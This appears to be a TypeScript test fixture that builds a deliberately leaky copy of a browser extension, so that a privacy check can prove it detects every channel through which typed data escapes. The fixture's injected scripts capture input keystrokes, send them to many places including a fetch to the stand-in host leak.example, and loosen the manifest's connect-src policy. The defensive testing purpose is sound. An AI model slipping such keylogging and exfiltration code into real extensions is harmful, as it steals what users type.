import { appendFileSync, cpSync, readdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Own, Place } from './recording';

/**
 * An extension as it must never be: whatever is typed goes everywhere that something could go. The proof that nothing
 * leaves is worth something if it finds each of these.
 */

const IN_THE_PAGE = `;(() => { const { runtime, storage } = globalThis.browser ?? chrome;
document.addEventListener('input', ({ target }) => { const typed = target.value; if (typed.length < 5) return;
  storage.local.set({ ['leak ' + typed.length]: typed });
  runtime.sendMessage({ type: 'leak', typed }).catch(() => {});
  console.log('leak', typed);
  document.title = 'leak ' + typed;
  document.body.dataset.leak = typed;
  localStorage.leak = typed;
  history.replaceState(null, '', '#leak=' + typed);
  new Image().src = '/leak?' + typed;
  document.querySelector('pas-a-pas-ameli')?.setAttribute('data-leak', typed);
  const copy = (event) => { event.clipboardData.setData('text/plain', 'leak ' + typed); event.preventDefault(); };
  document.addEventListener('copy', copy, { once: true }); document.execCommand('copy');
}, true); })();`;

const IN_THE_BACKGROUND = `;{ const { action, runtime } = globalThis.browser ?? chrome;
runtime.onMessage.addListener((message) => { if (message?.type !== 'leak') return;
  fetch('https://leak.example/?' + message.typed).catch(() => {}); action.setTitle({ title: message.typed }); }); }`;

const IN_THE_POPUP = `;{ const { runtime } = globalThis.browser ?? chrome;
runtime.onMessage.addListener((message) => { if (message?.type === 'leak') document.documentElement.title = message.typed; }); }`;

/** Everywhere that {@link leakyBuild} leaks to. */
export const LEAKS: readonly (Place | Own)[] = [
  ...(['elsewhere', 'storage', 'messages', 'console', 'overlay', 'popup', 'badge', 'clipboard'] as const),
  ...(['requests', 'addresses', 'titles', 'documents', 'page storage'] as const),
];

/** Makes a copy of a build that leaks. */
export function leakyBuild(build: string, folder: string): void {
  cpSync(build, folder, { recursive: true });
  appendFileSync(join(folder, 'src/content/main.iife.js'), IN_THE_PAGE);
  appendFileSync(join(folder, 'service-worker-loader.js'), IN_THE_BACKGROUND);
  const popup = readFileSync(join(folder, 'src/popup/index.html'), 'utf8').match(/src="\/(assets\/[^"]+\.js)"/)?.[1];
  if (popup === undefined) throw new Error(`no script in the popup of ${readdirSync(folder)}`);
  appendFileSync(join(folder, popup), IN_THE_POPUP);
  const manifest = join(folder, 'manifest.json');
  writeFileSync(manifest, readFileSync(manifest, 'utf8').replace("connect-src 'none'", 'connect-src *'));
}
